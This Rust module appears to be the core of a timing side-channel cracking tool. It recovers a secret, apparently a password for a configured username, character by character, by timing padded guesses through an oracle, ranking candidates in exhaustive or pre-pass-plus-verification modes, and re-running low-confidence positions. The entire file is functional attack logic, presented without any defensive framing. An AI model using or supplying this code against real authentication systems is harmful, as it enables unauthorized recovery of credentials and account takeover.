//! Recovering the secret one position at a time.

use crate::{
    config::CrackMode,
    evaluator::{CandidateEvaluator, Ranking},
    oracle::TimingOracle,
    report::format_secs,
    state::{AttackState, CandidateScore, Phase, PositionRecord, Stage},
    AttackConfig, AttackError, Guess,
};

use tracing::{info, instrument, warn};

use std::time::Instant;

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CrackState {
    AtPosition { index: usize, prefix: String },
    Cracked(String),
}

/// Crack every position after the state's known prefix.
///
/// Each confirmed character is appended to `state.prefix` as soon as it is
/// chosen, so an aborted run keeps everything recovered so far.
#[instrument(skip_all, fields(length = length, mode = config.mode.name()))]
pub async fn crack_secret<O: TimingOracle>(
    evaluator: &CandidateEvaluator<O>,
    config: &AttackConfig,
    length: usize,
    state: &mut AttackState,
) -> Result<String, AttackError> {
    let alphabet = config.alphabet();
    let known = state.prefix.chars().count();
    if known > length {
        return Err(AttackError::InvalidConfig(format!(
            "known prefix '{}' is longer than the secret length {length}",
            state.prefix
        )));
    }

    let mut crack = CrackState::AtPosition {
        index: known,
        prefix: state.prefix.clone(),
    };
    loop {
        crack = match crack {
            CrackState::Cracked(secret) => {
                info!(secret = %secret, "secret recovered");
                return Ok(secret);
            }
            CrackState::AtPosition { index, prefix } if index == length => {
                CrackState::Cracked(prefix)
            }
            CrackState::AtPosition { index, mut prefix } => {
                info!(position = index + 1, length, known = %prefix, "cracking position");
                let mut record =
                    crack_position(evaluator, config, &alphabet, &prefix, length, state).await?;
                if record.low_confidence && config.rerun_low_confidence {
                    warn!(
                        position = index,
                        margin = record.margin,
                        "low confidence, re-running position"
                    );
                    record =
                        crack_position(evaluator, config, &alphabet, &prefix, length, state).await?;
                    record.rerun = true;
                }
                if record.low_confidence {
                    warn!(
                        position = index,
                        chosen = %record.chosen,
                        margin = record.margin,
                        "low confidence position"
                    );
                }
                info!(
                    chosen = %record.chosen,
                    median = %format_secs(record.aggregate),
                    margin = record.margin,
                    elapsed = %format_secs(record.elapsed),
                    "selected character"
                );

                prefix.push(record.chosen);
                state.prefix.push(record.chosen);
                state.positions.push(record);
                CrackState::AtPosition {
                    index: index + 1,
                    prefix,
                }
            }
        };
    }
}

async fn crack_position<O: TimingOracle>(
    evaluator: &CandidateEvaluator<O>,
    config: &AttackConfig,
    alphabet: &[char],
    prefix: &str,
    length: usize,
    state: &mut AttackState,
) -> Result<PositionRecord, AttackError> {
    let started = Instant::now();
    let position = prefix.chars().count();
    let candidates = |chars: &[char]| -> Vec<Guess> {
        chars
            .iter()
            .map(|&c| Guess::padded(&config.username, prefix, c, config.filler, length))
            .collect()
    };
    let mut ties = Vec::new();

    let (prepass, decision, decided, margin, stage) = match config.mode {
        CrackMode::Exhaustive { samples } => {
            let ranking = evaluator.rank(candidates(alphabet), samples).await?;
            record(state, Stage::Exhaustive, position, &ranking);
            let margin = ranking.margin();
            (None, ranking, alphabet.to_vec(), margin, Stage::Exhaustive)
        }
        CrackMode::Ranking {
            prepass_samples,
            survivors,
            verify_samples,
        } => {
            let rough = evaluator.rank(candidates(alphabet), prepass_samples).await?;
            record(state, Stage::Prepass, position, &rough);

            let keep = survivors.min(alphabet.len());
            if rough.tied_at(keep) {
                ties.push(Stage::Prepass);
            }
            let kept: Vec<char> = rough.top(keep).iter().map(|e| alphabet[e.submitted]).collect();

            let ranking = evaluator.rank(candidates(&kept), verify_samples).await?;
            record(state, Stage::Verification, position, &ranking);
            // A lone survivor was only ever compared during the pre-pass.
            let margin = if ranking.len() > 1 {
                ranking.margin()
            } else {
                rough.margin()
            };
            (
                Some(CandidateScore::from_ranking(&rough)),
                ranking,
                kept,
                margin,
                Stage::Verification,
            )
        }
    };

    let leader = decision
        .leader()
        .ok_or_else(|| AttackError::InvalidConfig("no candidate characters".to_string()))?;
    if decision.is_tied() {
        ties.push(stage);
    }
    Ok(PositionRecord {
        position,
        chosen: decided[leader.submitted],
        aggregate: leader.aggregate,
        margin,
        ties,
        low_confidence: margin < config.significance,
        rerun: false,
        prepass,
        decision: CandidateScore::from_ranking(&decision),
        elapsed: started.elapsed(),
    })
}

fn record(state: &mut AttackState, stage: Stage, position: usize, ranking: &Ranking) {
    state
        .trace
        .record_round(Phase::CharacterCracking, stage, Some(position), ranking);
}
